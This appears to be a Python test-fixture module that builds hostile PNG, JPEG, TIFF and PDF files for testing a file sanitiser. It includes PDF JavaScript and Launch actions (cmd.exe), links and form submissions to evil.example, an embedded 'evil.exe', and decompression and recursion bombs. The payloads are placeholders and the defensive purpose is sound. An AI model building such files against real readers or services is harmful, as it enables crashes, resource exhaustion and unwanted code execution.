"""Files a hostile or unlucky person may send, made on the spot; nothing binary lies in the repository."""

import io
import struct
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image, PngImagePlugin

CANARY = b"canary-in-the-file"


def png(size=(60, 40), mode="RGB", **options):
    return picture("PNG", size, mode, **options)


def jpeg(size=(60, 40), mode="RGB", **options):
    return picture("JPEG", size, mode, **options)


def picture(form, size=(60, 40), mode="RGB", **options):
    out = io.BytesIO()
    Image.new(mode, size).save(out, form, **options)
    return out.getvalue()


def png_chunk(kind, body):
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png_of_claimed_size(width, height):
    """A header that promises more pixels than its few bytes hold."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", zlib.compress(b"\0" * 1000))
        + png_chunk(b"IEND", b"")
    )


def png_with_chunk(kind, body):
    plain = png()
    return plain[:33] + png_chunk(kind, body) + plain[33:]


def png_with_text():
    text = PngImagePlugin.PngInfo()
    text.add_text("Comment", CANARY.decode())
    text.add_text("zipped", CANARY.decode() * 50, zip=True)
    return png(pnginfo=text)


def exif_with_position():
    exif = Image.Exif()
    exif[0x010E] = CANARY.decode()
    exif[0x8825] = {1: "N", 2: (35.0, 42.0, 0.0), 3: "E", 4: (51.0, 23.0, 0.0)}
    return exif


def animated_png():
    out = io.BytesIO()
    frames = [Image.new("RGB", (4, 4), (shade, 0, 0)) for shade in range(50)]
    frames[0].save(out, "PNG", save_all=True, append_images=frames[1:])
    return out.getvalue()


def tiff_of_four_gigabytes():
    return (
        b"II*\0\x08\0\0\0"
        + struct.pack("<H", 2)
        + struct.pack("<HHII", 256, 4, 1, 1)
        + struct.pack("<HHII", 257, 4, 1, 2**32 - 1)
    )


# PDF


def new_pdf(pages=1):
    pdf = pikepdf.new()
    for _ in range(pages):
        pdf.add_blank_page(page_size=(200, 300))
    return pdf


def written(pdf, **options):
    out = io.BytesIO()
    pdf.save(out, **options)
    return out.getvalue()


def pdf(change=None, pages=1, **options):
    document = new_pdf(pages)
    if change:
        change(document)
    return written(document, **options)


def script(code="app.alert(1)"):
    return Dictionary(S=Name.JavaScript, JS=String(code))


def open_action(document):
    document.Root.OpenAction = script()


def document_scripts(document):
    document.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script()])))


def script_in_a_stream(document):
    document.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=document.make_stream(b"app.alert(1)"))


def additional_actions(document):
    document.Root.AA = Dictionary(WC=script())
    document.pages[0].obj.AA = Dictionary(O=script())


def action_on_the_page_tree(document):
    document.Root.Pages.AA = Dictionary(O=script())


def link(document, action):
    area = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=action)
    document.pages[0].obj.Annots = Array([document.make_indirect(area)])


def launch(document):
    link(document, Dictionary(S=Name.Launch, F=String("cmd.exe")))


def script_address(document):
    link(document, Dictionary(S=Name.URI, URI=String("javascript:alert(1)")))


def submit_form(document):
    link(document, Dictionary(S=Name.SubmitForm, F=String("https://evil.example/")))


def remote_go_to(document):
    link(document, Dictionary(S=Name.GoToR, F=String("//evil.example/share"), D=Array([0, Name.Fit])))


def chained_actions(document):
    link(document, Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]), Next=Array([script(), Array([script()])])))


def attachment(document):
    document.attachments["evil.exe"] = CANARY


def file_annotation(document):
    attachment(document)
    spec = document.attachments["evil.exe"].obj
    note = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 9, 9]), FS=spec)
    document.pages[0].obj.Annots = Array([note])


def associated_file(document):
    attachment(document)
    document.pages[0].obj.AF = Array([document.attachments["evil.exe"].obj])


def outline_script(document):
    item = document.make_indirect(Dictionary(Title=String("x"), A=script()))
    document.Root.Outlines = document.make_indirect(Dictionary(First=item, Last=item, Count=1))


def field_script(document):
    field = Dictionary(
        FT=Name.Tx,
        T=String("f"),
        AA=Dictionary(K=script()),
        Type=Name.Annot,
        Subtype=Name.Widget,
        Rect=Array([0, 0, 9, 9]),
    )
    document.Root.AcroForm = Dictionary(Fields=Array([document.make_indirect(field)]))


def hidden_in_an_unknown_key(document):
    document.pages[0].obj.Contents = document.make_stream(b"q Q")
    document.pages[0].obj.Contents.stream_dict.Elsewhere = Dictionary(Deep=Array([script()]))
    document.Root.Elsewhere = script()


def movie(document):
    note = Dictionary(
        Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([0, 0, 9, 9]), RichMediaContent=Dictionary(X=1)
    )
    document.pages[0].obj.Annots = Array([note])


def metadata(document):
    document.docinfo[Name.Author] = String(CANARY.decode())
    document.Root.Metadata = document.make_stream(b"<x>" + CANARY + b"</x>", Type=Name.Metadata, Subtype=Name.XML)


def portfolio(document):
    attachment(document)
    document.Root.Collection = Dictionary(View=Name.D)


def xfa(document):
    document.Root.AcroForm = Dictionary(Fields=Array([]), XFA=document.make_stream(b"<xdp/>"))


def page_tree_loop(document):
    node = document.make_indirect(Dictionary(Type=Name.Pages, Count=1))
    node.Kids = Array([node])
    document.Root.Pages = node


def no_pages(document):
    del document.pages[0]


def encrypted(owner, user):
    return written(new_pdf(), encryption=pikepdf.Encryption(owner=owner, user=user))


def raw_pdf(extra=b"", size=None, more=(), tree=b"<</Type/Pages/Kids[3 0 R]/Count 1>>"):
    """A PDF written by hand, with a sound cross-reference table."""
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]" + extra + b">>"
    bodies = [b"<</Type/Catalog/Pages 2 0 R>>", tree, page, *more]
    out, offsets = io.BytesIO(), []
    out.write(b"%PDF-1.7\n")
    for number, body in enumerate(bodies, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj" % number + body + b"\nendobj\n")
    start = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1))
    out.write(b"".join(b"%010d 00000 n \n" % offset for offset in offsets))
    out.write(b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (size or len(bodies) + 1, start))
    return out.getvalue()


def too_many_objects():
    return raw_pdf(more=[b"1"] * 200_001)


def object_stream_bomb(blanks=200_000_000):
    """Catalogue and page tree behind an object stream of 200 MB of blanks, 200 kB on the wire."""
    inner = [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>"]
    index = b"1 0 2 %d " % len(inner[0])
    packer = zlib.compressobj(9)
    packed = packer.compress(index + b"".join(inner))
    packed += b"".join(packer.compress(b" " * 10_000_000) for _ in range(blanks // 10_000_000)) + packer.flush()
    out, offsets = io.BytesIO(), {}
    out.write(b"%PDF-1.7\n")
    for number, body in (
        (3, b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"),
        (4, stream(b"/Type/ObjStm/N 2/First %d/Filter/FlateDecode" % len(index), packed)),
    ):
        offsets[number] = out.tell()
        out.write(b"%d 0 obj" % number + body + b"\nendobj\n")
    offsets[5] = start = out.tell()
    rows = [(0, 0, 65535), (2, 4, 0), (2, 4, 1)] + [(1, offsets[number], 0) for number in (3, 4, 5)]
    table = b"".join(struct.pack(">BIH", *row) for row in rows)
    out.write(b"5 0 obj" + stream(b"/Type/XRef/Size 6/W[1 4 2]/Root 1 0 R", table) + b"\nendobj\n")
    out.write(b"startxref\n%d\n%%%%EOF\n" % start)
    return out.getvalue()


def stream(keys, body):
    return b"<<" + keys + b"/Length %d>>stream\n" % len(body) + body + b"\nendstream"


def deeply_nested():
    return raw_pdf(extra=b"/X" + b"[" * 100_000 + b"]" * 100_000)


def picture_bomb(document):
    """A page that asks for a picture of 60,000 by 60,000 grey pixels."""
    packer = zlib.compressobj(9)
    body = b"".join(packer.compress(b"\0" * 1_000_000) for _ in range(100)) + packer.flush()
    image = document.make_stream(
        body,
        Type=Name.XObject,
        Subtype=Name.Image,
        Width=60_000,
        Height=60_000,
        ColorSpace=Name.DeviceRGB,
        BitsPerComponent=8,
        Filter=Name.FlateDecode,
    )
    document.pages[0].obj.Resources = Dictionary(XObject=Dictionary(A=image))
    document.pages[0].obj.Contents = document.make_stream(b"200 0 0 300 0 0 cm /A Do")


def endless_drawing(document):
    """Forms that draw each other ten times, nine levels deep."""
    inner = document.make_stream(b"0 0 9 9 re f", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 9, 9]))
    for _ in range(9):
        inner = document.make_stream(
            b"/F Do " * 10,
            Type=Name.XObject,
            Subtype=Name.Form,
            BBox=Array([0, 0, 9, 9]),
            Resources=Dictionary(XObject=Dictionary(F=inner)),
        )
    document.pages[0].obj.Resources = Dictionary(XObject=Dictionary(F=inner))
    document.pages[0].obj.Contents = document.make_stream(b"/F Do")


def png_with_bomb(kind):
    """A compressed chunk of 60 kB that unpacks to 60 MB."""
    return png_with_chunk(kind, b"name\0\0" + zlib.compress(b"\0" * 60_000_000, 9))


def jpeg_of_claimed_size(width, height):
    plain = jpeg()
    frame = plain.index(b"\xff\xc0")
    return plain[: frame + 5] + struct.pack(">HH", height, width) + plain[frame + 9 :]
